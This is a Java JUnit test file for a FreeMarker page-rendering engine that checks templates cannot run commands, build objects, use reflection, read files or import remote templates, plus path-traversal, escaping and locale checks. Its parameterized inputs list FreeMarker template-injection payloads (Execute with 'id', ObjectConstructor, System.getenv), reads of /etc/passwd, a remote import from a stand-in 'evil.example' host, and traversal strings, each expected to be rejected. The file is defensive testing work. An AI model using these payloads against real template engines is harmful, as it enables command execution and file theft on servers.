package dev.muniment.render;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import freemarker.cache.StringTemplateLoader;
import java.io.UncheckedIOException;
import java.nio.file.Path;
import java.util.Locale;
import java.util.Map;
import java.util.TimeZone;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a template can reach, which is what it is given and no more. */
class EngineTest {

    /** What templates are given here. */
    public record Given(String name, Path path) {}

    private static final Map<String, Object> MODEL = Map.of("given", new Given("<b>R & D</b>", Path.of("/secret")));

    @ParameterizedTest
    @ValueSource(
            strings = {
                "${'freemarker.template.utility.Execute'?new()('id')}",
                "${'freemarker.template.utility.ObjectConstructor'?new()('java.io.File', '/')}",
                "${'freemarker.template.utility.JythonRuntime'?new()}",
                "<#assign make = 'freemarker.template.utility.Execute'?new>${make('id')}",
                "${given?api.name}",
                "${given?api.getClass().name}",
                "${given.class}",
                "${given.getClass()}",
                "${given.hashCode()}",
                "${given.name.class}",
                "${given.name.getBytes()}",
                "${given.name?api.length()}",
                "${given.path}",
                "${given.nothing}",
                "${say?api}",
                "${statics['java.lang.System'].getenv('HOME')}",
                "<#include '/etc/passwd'>",
                "<#include 'file:///etc/passwd'>",
                "<#import 'https://evil.example/a.ftlh' as a>"
            })
    void a_template_creates_nothing_calls_nothing_and_reads_no_file(String template) {
        assertThatThrownBy(() -> fill(template)).isInstanceOf(IllegalStateException.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../rules/bad-id.md",
                "site/../../rules/bad-id.md",
                "../../../META-INF/MANIFEST.MF",
                "/../rules/bad-id.md",
                "..\\rules\\bad-id.md",
                "%2e%2e/rules/bad-id.md"
            })
    void a_template_comes_from_the_folder_of_templates(String name) {
        Engine engine = new Engine(Style.SITE);

        assertThat(EngineTest.class.getResource("/dev/muniment/rules/bad-id.md"))
                .isNotNull();
        assertThatThrownBy(() -> engine.fill(name, MODEL, "a page")).isInstanceOf(UncheckedIOException.class);
        assertThatThrownBy(() -> fill("<#include \"" + name.replace("\\", "\\\\") + "\">"))
                .isInstanceOf(IllegalStateException.class);
    }

    @Test
    void text_is_escaped_in_elements_and_in_attributes() {
        assertThat(fill("<p title=\"${given.name + '\"'}\">${given.name}</p>"))
                .isEqualTo("<p title=\"&lt;b&gt;R &amp; D&lt;/b&gt;&quot;\">&lt;b&gt;R &amp; D&lt;/b&gt;</p>");
    }

    @Test
    void locale_and_zone_of_the_machine_change_nothing() {
        Locale locale = Locale.getDefault();
        TimeZone zone = TimeZone.getDefault();
        try {
            Locale.setDefault(Locale.forLanguageTag("tr-TR"));
            TimeZone.setDefault(TimeZone.getTimeZone("Pacific/Kiritimati"));

            assertThat(fill("${1234567.5} ${'TITLE'?lower_case} ${.locale} ${.time_zone}"))
                    .isEqualTo("1234567.5 title  UTC");
        } finally {
            Locale.setDefault(locale);
            TimeZone.setDefault(zone);
        }
    }

    private static String fill(String template) {
        StringTemplateLoader loader = new StringTemplateLoader();
        loader.putTemplate("page.ftlh", template);
        return new Engine(Style.SITE, loader).fill("page.ftlh", MODEL, "a page");
    }
}
